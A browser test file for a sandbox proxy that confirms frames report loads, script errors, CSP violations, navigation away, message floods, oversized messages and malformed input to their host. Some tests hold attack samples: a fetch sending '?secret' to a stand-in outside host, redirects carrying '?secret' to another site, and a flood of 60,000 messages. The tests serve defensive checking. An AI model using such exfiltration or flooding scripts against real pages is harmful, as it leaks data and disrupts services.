/** Reports of the proxy to its host about a frame, in a real browser (S12). */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inlineScript, type Site, serveSite } from "../../../testing/browser.ts";
import { SandboxStage, type Shown, until } from "../../../testing/sandbox-stage.ts";
import { MemoryRecords } from "./records.js";

const app = (script = ""): string => `<!doctype html><title>app</title><p>app</p>\n${inlineScript(script)}`;

let stage: SandboxStage;
const kept = new MemoryRecords();
/** Records that are lost after so many reads. */
const gone = new Map<string, number>();
beforeAll(async () => {
  stage = await SandboxStage.open({
    records: {
      get: (name) => {
        const left = gone.get(name) ?? Number.POSITIVE_INFINITY;
        gone.set(name, left - 1);
        return left > 0 ? kept.get(name) : undefined;
      },
      set: (name, text) => kept.set(name, text),
    },
  });
});
afterAll(() => stage?.close());

/** Shows an app in a host that takes the port. */
const show = (html: string): Promise<Shown> => stage.show({ html }, { port: true });

async function run(shown: Shown, script: string): Promise<void> {
  const view = await shown.view();
  await view.evaluate((text) => {
    const element = document.createElement("script");
    element.text = text;
    document.body.append(element);
  }, script);
}

describe("S12: the host receives", () => {
  it("loaded, once, when a document was", async () => {
    const shown = await show(app());
    await shown.untilReported("loaded");
    await shown.post({ jsonrpc: "2.0", method: "ui/notifications/sandbox-ping" });
    await shown.untilHeard("ui/notifications/sandbox-pong");
    expect((await shown.reports()).filter(({ code }) => code !== "painted")).toEqual([{ code: "loaded" }]);
  });

  it("csp-violation, of a script that runs before anything else, with its line", async () => {
    const shown = await show(`<!doctype html>\n<script>fetch("https://undeclared.example/?secret")</script>`);
    expect(await shown.untilReported("csp-violation")).toEqual({
      code: "csp-violation",
      by: "view",
      directive: "connect-src",
      blocked: "https://undeclared.example/?secret",
      source: expect.stringContaining(shown.registered.viewOrigin),
      line: 2,
    });
  });

  it("script-error, thrown and rejected, with the line and column of the document", async () => {
    const shown = await show(
      `<!doctype html>\n<script>\nPromise.reject(new Error("rejected"));\n  throw new Error("thrown")</script>`,
    );
    await until(async () => expect(await shown.reports("script-error")).toHaveLength(2));
    const told = (await shown.reports("script-error")).map(({ message, place }) => `${message} ${place}`);
    expect(told.toSorted()).toEqual(["Uncaught Error: thrown document:4:9", "rejected document:3:16"]);
  });

  it("painted, of a document that draws something, and not of one that draws nothing", async () => {
    await (await show("<!doctype html><p>Hello</p>")).untilReported("painted");
    await (await show('<!doctype html><div style="height:9px;background:red"></div>')).untilReported(
      "painted",
    );
    const canvas =
      "<canvas></canvas><script>document.querySelector('canvas').getContext('2d').fillRect(0, 0, 9, 9)</script>";
    await (await show(`<!doctype html>${canvas}`)).untilReported("painted");
    for (const html of ["<!doctype html>", "<!doctype html><style>body{display:none}</style><p>Hello</p>"]) {
      const shown = await show(html);
      await shown.untilReported("loaded");
      const view = await shown.view();
      await view.evaluate(
        () => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 500))),
      );
      expect(await shown.reports("painted")).toEqual([]);
    }
  });

  it("no more than 50 of those from one document", async () => {
    const shown = await show(app("for (let i = 0; i < 200; i++) setTimeout(() => { throw i })"));
    await until(async () => expect(await shown.reports("script-error")).toHaveLength(50));
    await run(
      shown,
      'setTimeout(() => { throw 1 }); setTimeout(() => parent.postMessage({ method: "last" }, "*"))',
    );
    await shown.untilHeard("last");
    expect(await shown.reports("script-error")).toHaveLength(50);
  });

  it("load-failed, when the document is gone", async () => {
    const html = app("// evicted");
    const { src } = await stage.served.sandbox.register({ server: "test", html });
    // Not when the proxy is read, but later.
    gone.set(new URL(src).pathname.slice(1), 1);
    const shown = await stage.show({ html }, { port: true, src: `${src}#later` });
    await shown.untilReported("load-failed");
    expect(await shown.reports()).toEqual([{ code: "load-failed" }]);
  });

  it("escape, unless the app has a use for it", async () => {
    const shown = await show(
      app(`addEventListener("keydown", (event) => {
        if (document.title === "busy") event.preventDefault();
        parent.postMessage({ method: "key" }, "*");
      })`),
    );
    const view = await shown.view();
    await view.evaluate(() => (document.title = "busy"));
    await view.click("p");
    await shown.page.keyboard.press("Escape");
    await shown.untilHeard("key");
    await view.evaluate(() => (document.title = "free"));
    await shown.page.keyboard.press("Escape");
    await shown.untilReported("escape");
    expect(await shown.reports("escape")).toEqual([{ code: "escape", by: "view" }]);
  });
});

describe("attack A23: a view that leaves", () => {
  let shared: SandboxStage;
  let hits = 0;
  let other: Site;
  beforeAll(async () => {
    // The whole browser, because it decides when leaving pages are reported.
    shared = stage;
    stage = await SandboxStage.open({ args: [] });
    other = await serveSite({
      get "/"() {
        hits++;
        return "<!doctype html>elsewhere";
      },
    });
    // The control: an ordinary page reaches the same URL.
    const page = await stage.browser.newPage();
    await page.goto(`${other.origin()}/`);
    expect(hits).toBeGreaterThan(0);
    await page.close();
  });
  afterAll(async () => {
    await other?.close();
    await stage.close();
    stage = shared;
  });

  it.each([
    ["to another site", (_own: string, other: string) => `location.href = "${other}/?secret"`],
    ["to another site, by replace", (_own: string, other: string) => `location.replace("${other}/?secret")`],
    ["to data:", () => 'location.href = "data:text/html,hello"'],
    ["to a page that its own origin does not have", (own: string) => `location.href = "${own}/nothing"`],
    ["to its own address with a query", () => 'location.href = location.href + "?secret"'],
  ])("%s: arrives nowhere, and the host gets navigated-away", async (_where, script) => {
    hits = 0;
    const shown = await show(app());
    await shown.untilReported("loaded");
    await run(shown, script(shown.registered.viewOrigin, other.origin()));
    await shown.untilReported("navigated-away");
    expect(hits).toBe(0);
    const [frame] = (await shown.proxy()).childFrames();
    expect(frame?.url()).toBe("chrome-error://chromewebdata/");
    expect(new URL(shown.page.url()).origin).toBe(stage.site.origin());
  });

  it("before it has loaded: the host gets the same", async () => {
    const shown = await show(app('location.href = "/nothing";'));
    await shown.untilReported("navigated-away");
    // It may have loaded while leaving; the last report is that it left.
    expect((await shown.reports()).at(-1)).toEqual({ code: "navigated-away" });
  });

  it("while it reports a start: the host gets the same", async () => {
    const shown = await show(app());
    await shown.untilReported("loaded");
    const began = '{ jsonrpc: "2.0", method: "ui/notifications/sandbox-started", params: {} }';
    await run(shown, `setInterval(() => parent.postMessage(${began}, "*")); location.href = "/nothing";`);
    await shown.untilReported("navigated-away");
  });

  it("and one that reloads itself has not left", async () => {
    const shown = await show(app());
    await shown.untilReported("loaded");
    await run(shown, "location.reload()");
    await until(async () => expect(await shown.reports("loaded")).toHaveLength(2));
    await run(shown, 'parent.postMessage({ method: "back" }, "*")');
    await shown.untilHeard("back");
    expect(await shown.reports("navigated-away")).toEqual([]);
  });
});

it("S12: a view that rewrites its document has not left, and its messages still arrive", async () => {
  const shown = await show(app());
  await shown.untilReported("loaded");
  await run(shown, 'document.open(); document.write("<title>anew</title><p>anew"); document.close();');
  await until(async () => expect(await shown.reports("loaded")).toHaveLength(2));
  expect(await (await shown.view()).evaluate(() => document.title)).toBe("anew");
  await run(shown, 'setTimeout(() => { throw new Error("thrown") })');
  await shown.untilReported("script-error");
  expect(await shown.reports("script-error")).toHaveLength(1);
  expect(await shown.reports("navigated-away")).toEqual([]);
});

describe("attack D03: a view that sends too much", () => {
  it("is cut off after its burst, with one notice, and its messages arrive again when there is room", async () => {
    const shown = await show(app());
    await shown.view();
    const proxy = await shown.proxy();
    // The proxy's own clock determines how much room there was.
    await proxy.evaluate(() => {
      const times: number[] = [];
      addEventListener("message", ({ data }) => data.method === "flood" && times.push(performance.now()));
      Object.assign(globalThis, { times });
    });
    await run(
      shown,
      `for (let i = 0; i < 60000; i++) parent.postMessage({ method: "flood" }, "*");
      setInterval(() => parent.postMessage({ method: "after" }, "*"), 100);`,
    );
    await shown.untilReported("flooded");
    await shown.untilHeard("after");
    // Counted in the page, because transferring them takes many times longer.
    const { count, took } = await proxy.evaluate(() => {
      const { times } = globalThis as unknown as { times: number[] };
      return { count: times.length, took: Number(times.at(-1)) - Number(times[0]) };
    });
    expect(count).toBe(60_000);
    const passed = await shown.count("flood");
    expect(passed).toBeGreaterThanOrEqual(5000);
    expect(passed).toBeLessThan(5000 + 2 * took + 10);
    expect(passed).toBeLessThan(60_000);
    // A second one only if the flood paused for long enough to be a new flood.
    const told = await shown.reports("flooded");
    expect(told[0]).toEqual({ code: "flooded" });
    expect(told.length).toBeLessThanOrEqual(1 + took / 1250);
  });

  it("too-large: a giant message stays in its own process; its id is reported, so that it can be answered", async () => {
    const shown = await show(app());
    await run(shown, 'parent.postMessage({ id: 9, method: "tools/call", params: "x".repeat(33e6) }, "*")');
    await run(
      shown,
      'parent.postMessage(JSON.stringify({ id: "t", method: "m", params: "x".repeat(33e6) }), "*")',
    );
    await run(shown, 'parent.postMessage({ id: "x".repeat(33e6), method: "m" }, "*")');
    const method = "ui/notifications/sandbox-report";
    await run(shown, `parent.postMessage({ method: "${method}", params: { code: "x".repeat(20000) } }, "*")`);
    await until(async () => expect(await shown.reports("too-large")).toHaveLength(4));
    expect(await shown.reports("too-large")).toEqual([
      { code: "too-large", id: 9, method: "tools/call" },
      { code: "too-large", id: "t", method: "m" },
      { code: "too-large", method: "m" },
      { code: "too-large", method },
    ]);
    for (const { message } of await shown.heard()) expect(JSON.stringify(message).length).toBeLessThan(1000);
  });

  it("malformed: invalid JSON, or nested too deeply to traverse", async () => {
    const shown = await show(app());
    const hostile = [
      '"no json"',
      "'{'",
      "undefined",
      "{ big: 1n }",
      "JSON.stringify({ method: { toString: 1, valueOf: 1 } })",
      '\'{"method":"m","params":\' + "[".repeat(1e5) + "]".repeat(1e5) + "}"',
      '(() => { let deep = {}; for (let i = 0; i < 1000; i++) deep = { deep }; return { method: "m", params: deep }; })()',
    ];
    for (const text of hostile) await run(shown, `parent.postMessage(${text}, "*")`);
    await run(shown, 'parent.postMessage({ method: "last", params: [[[[{ a: [[[]]] }]]]] }, "*")');
    expect(await shown.untilHeard("last")).toEqual({ method: "last", params: [[[[{ a: [[[]]] }]]]] });
    expect(await shown.reports("malformed")).toHaveLength(hostile.length);
    const methods = (await shown.heard()).map(({ message }) => message.method);
    expect(methods).not.toContain("m");
  });
});
